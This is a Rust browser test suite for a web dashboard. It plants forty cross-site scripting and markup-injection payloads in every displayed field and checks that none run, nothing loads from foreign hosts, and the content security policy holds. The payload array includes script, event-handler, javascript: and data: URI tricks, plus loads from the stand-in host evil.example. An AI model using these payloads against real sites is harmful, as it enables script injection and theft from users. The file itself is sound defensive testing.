//! Forty payloads through every field that a page shows.

use std::collections::BTreeSet;

use serde_json::json;

use super::browser::Browser;
use super::told::Told;
use super::{PHONE, with_browser};

/// What has broken pages before: markup, attributes, schemes, encodings, templates, terminals, Markdown.
const PAYLOADS: [&str; 40] = [
    "<script>window.evil=1</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>window.evil=2</script>",
    "</title><script>window.evil=3</script>",
    "</textarea><script>window.evil=4</script>",
    "</style><script>window.evil=5</script>",
    "<img src=x onerror=window.evil=6>",
    "<img src=http://evil.example/pixel.png>",
    "<svg onload=window.evil=7>",
    "<svg><script>window.evil=8</script></svg>",
    "<svg><animate onbegin=window.evil=9 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.evil=10>",
    "<iframe src=javascript:parent.evil=11></iframe>",
    "<iframe srcdoc=\"<script>parent.evil=12</script>\"></iframe>",
    "<object data=http://evil.example/o></object>",
    "<embed src=http://evil.example/e>",
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<form action=http://evil.example/><button>Approve</button></form>",
    "<input autofocus onfocus=window.evil=13>",
    "<details open ontoggle=window.evil=14>x</details>",
    "<video><source onerror=window.evil=15></video>",
    "<body onload=window.evil=16>",
    "<a href=javascript:window.evil=17>x</a>",
    "\" onmouseover=\"window.evil=18",
    "' autofocus onfocus='window.evil=19",
    "\"><script>window.evil=20</script>",
    "'><script>window.evil=21</script>",
    "--><script>window.evil=22</script><!--",
    "]]><script>window.evil=23</script>",
    "{{ 7 * 7 }}${7*7}<%= 7 * 7 %>",
    "[click](javascript:window.evil=24)",
    "![x](http://evil.example/md.png)",
    "javascript:window.evil=25",
    "data:text/html,<script>window.evil=26</script>",
    "\u{202e}<script>window.evil=27</script>\u{200f}",
    "\u{feff}\u{0}<scr\u{0}ipt>window.evil=28</script>",
    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "&lt;script&gt;window.evil=29&lt;/script&gt;<!--<script>",
];

/// The policy that stands behind it all, word by word.
const POLICY: &str = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; \
    manifest-src 'self'; worker-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'";

/// Git takes no blanks and few signs in a name.
fn as_name(payload: &str) -> String {
    let fine = |c: &char| c.is_ascii_graphic() && !"\\/:?*[]~^".contains(*c);
    payload.chars().filter(fine).collect::<String>().replace("..", "").trim_matches('.').to_owned()
}

#[test]
fn t15_forty_payloads_through_every_field_run_nothing_and_ask_nobody() {
    with_browser(async || {
        let mut told = Told::new();
        let all = PAYLOADS.join("\n");
        // One bead a payload, parked with it: all of them stand on the first page.
        let mut beads = Vec::new();
        for payload in PAYLOADS {
            let id = told.env.add("Title", &[]);
            let (story, _) =
                told.working(&id, payload, &format!("» {payload}\n$ {payload}\n  ok: {payload}\n"));
            told.settled(story, "parked", payload, payload);
            beads.push((id, payload));
        }
        let rich = told.env.add("Rich", &["-d", "Rich", "--dep", &beads[0].0]);
        let mark = |line: &str| {
            PAYLOADS.iter().map(|p| format!("{line}{}\n", p.replace('\n', " "))).collect::<String>()
        };
        let log = [
            "» ",
            "~ ",
            "$ ",
            "> ",
            "  ok: ",
            "  failed: ",
            "    + ",
            "    - ",
            "! ",
            "< ",
            "= ",
            "- ",
            "? ",
            "",
        ];
        let log: String = log.iter().map(|line| mark(line)).collect();
        let (mut story, run) = told.working(&rich, &all, &log);
        told.tell(&mut story, json!({ "type": "message_queued", "message": "m", "text": all }));
        let files: Vec<(String, String)> =
            PAYLOADS.iter().map(|p| (format!("{}-x", as_name(p)), format!("{p}\n"))).collect();
        let files: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        let tip = told.kept(&mut story, &run, &files);
        let onto = told.env.git(&["rev-parse", "main"]);
        told.tell(
            &mut story,
            json!({ "type": "merged", "commit": tip, "tree": "b".repeat(40), "onto": onto }),
        );
        for payload in PAYLOADS {
            told.tell(&mut story, json!({ "type": "gate_started", "gate": payload, "command": payload }));
            let ended = json!({ "type": "gate_ended", "gate": payload, "passed": false, "summary": payload, "seconds": 1.0 });
            told.tell(&mut story, ended);
        }
        let finding = |payload: &str| json!({ "source": payload, "title": payload, "detail": payload, "file": payload, "line": 1, "severity": "critical" });
        let findings: Vec<_> = PAYLOADS.iter().map(|payload| finding(payload)).collect();
        told.tell(&mut story, json!({ "type": "gates_failed", "findings": findings }));
        let entry = |payload: &&str| {
            json!({ "fingerprint": payload, "finding": finding(payload), "origin": "this_change",
                "standing": { "standing": "waived", "reason": payload }, "first": 1, "last": 1, "priority": 2, "kind": "bug" })
        };
        let ledger: Vec<_> = PAYLOADS.iter().map(entry).collect();
        let filed: Vec<_> = PAYLOADS
            .iter()
            .map(|p| json!({ "fingerprint": format!("filed {p}"), "title": p, "bead": p, "created": true, "proposed": true }))
            .collect();
        told.beside(&story, &run, json!({ "type": "notice", "text": all }));
        told.beside(&story, &run, json!({ "type": "findings_filed", "filed": filed }));
        let review = json!({ "round": 1, "verdict": "ask", "reason": all, "summary": all, "ledger": ledger });
        told.beside(&story, &run, json!({ "type": "reviewed", "review": review, "cost_usd": 0.0 }));
        for (id, payload) in &beads {
            told.park(id);
            told.edit(id, |bead| bead["title"] = json!(payload));
        }
        told.edit(&rich, |bead| {
            for field in ["title", "description", "design", "acceptance_criteria", "notes", "assignee", "issue_type"] {
                bead[field] = json!(all);
            }
            bead["labels"] = json!(PAYLOADS.as_slice());
            let comment = |payload: &&str| {
                json!({ "id": 1, "issue_id": rich, "author": payload, "text": payload, "created_at": "2026-11-21T00:00:00Z" })
            };
            bead["comments"] = PAYLOADS.iter().map(comment).collect::<Vec<_>>().into();
        });
        let _lock = super::looks::hold(&told, &rich);
        told.serve();
        let browser = Browser::open(PHONE, false).await;
        told.login(&browser).await;
        browser.requests().await;
        browser.console().await;
        let query = beadwork::feed::view::place::segment(PAYLOADS[27]);
        let mut pages = vec![
            format!("{}/", told.url),
            told.bead(&rich),
            told.run(&run),
            format!("{}/history", told.url),
            format!("{}/history?q={query}&project={query}&outcome={query}", told.url),
            format!("{}/findings", told.url),
            format!("{}/settings", told.url),
            told.bead(&query),
            format!("{}/projects/{query}/runs/{query}", told.url),
            format!("{}/{query}", told.url),
        ];
        pages.extend(beads.iter().step_by(9).map(|(id, _)| told.bead(id)));
        for page in &pages {
            browser.go(page).await;
            // Everything that waits for a hand or a hover gets one.
            browser
                .run(
                    "for (const fold of document.querySelectorAll('details')) fold.open = true; \
                     for (const e of document.querySelectorAll('*')) { e.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); \
                       if (e.tabIndex >= 0) e.focus(); }",
                )
                .await;
            let seen = browser
                .run(
                    "const odd = 'script:not([src^=\"/assets/\"]), img, iframe, object, embed, base, video, math, style, form[action]:not([action=\"/history\"]), meta[http-equiv], link:not([href^=\"/\"])'; \
                     const links = [...document.querySelectorAll('a')].filter((a) => !/^https?:$/.test(a.protocol ?? new URL(a.href.baseVal, location.href).protocol)); \
                     const on = [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on') || a.name === 'style')); \
                     return [window.evil ?? null, document.querySelectorAll(odd).length, links.length, on.length]",
                )
                .await;
            assert_eq!(seen, json!([null, 0, 0, 0]), "{page}");
            browser.no_dialog().await;
            browser.fits(page).await;
            let policy = "return (await fetch(location.href)).headers.get('content-security-policy')";
            assert_eq!(browser.wait_for(policy).await, json!(POLICY), "{page}");
        }
        // Live updates go the same way: words that come in while a page is open.
        let asked: BTreeSet<String> = browser.requests().await.into_iter().collect();
        let foreign: Vec<&String> =
            asked.iter().filter(|url| !url.starts_with(&format!("{}/", told.url))).collect();
        assert!(foreign.is_empty(), "asked elsewhere: {foreign:?}");
        let refused: Vec<String> = browser
            .console()
            .await
            .into_iter()
            .filter(|line| line.contains("Content Security Policy"))
            .collect();
        assert!(refused.is_empty(), "something of it was markup, and only the policy held it: {refused:?}");
        browser.go(&told.run(&run)).await;
        let text = browser.text().await;
        for payload in &PAYLOADS[..30] {
            assert!(text.contains(payload), "`{payload}` is shown as it stands");
        }
        // What comes in while a page is open goes another way, by the scripts.
        told.print(&run, &mark("» late "));
        let said = json!({ "type": "notice", "text": format!("late {}", PAYLOADS[0]) });
        told.other().tell(beadwork::journal::Entry::of(&story, super::told::body(said))).unwrap();
        let late = "return document.getElementById('log').innerText.includes('late &lt;script') && \
                    document.getElementById('story').innerText.includes('late <script')";
        browser.until("the late words", late).await;
        assert_eq!(
            browser.run("return [window.evil ?? null, document.querySelectorAll('script').length]").await,
            json!([null, 1])
        );
        browser.no_dialog().await;
    });
}

/// A test of the test: such a page would have been noticed.
#[test]
fn t15_an_open_page_is_noticed() {
    with_browser(async || {
        let browser = Browser::open(PHONE, false).await;
        browser.go("data:text/html,<script>window.evil=1;setTimeout(() => alert(1), 50)</script>").await;
        let seen = async {
            while browser.client.get_alert_text().await.is_err() {
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            }
        };
        let seen = tokio::time::timeout(std::time::Duration::from_secs(60), seen).await;
        seen.expect("a dialog is seen");
        browser.client.accept_alert().await.unwrap();
        assert_eq!(browser.run("return window.evil").await, json!(1));
    });
}
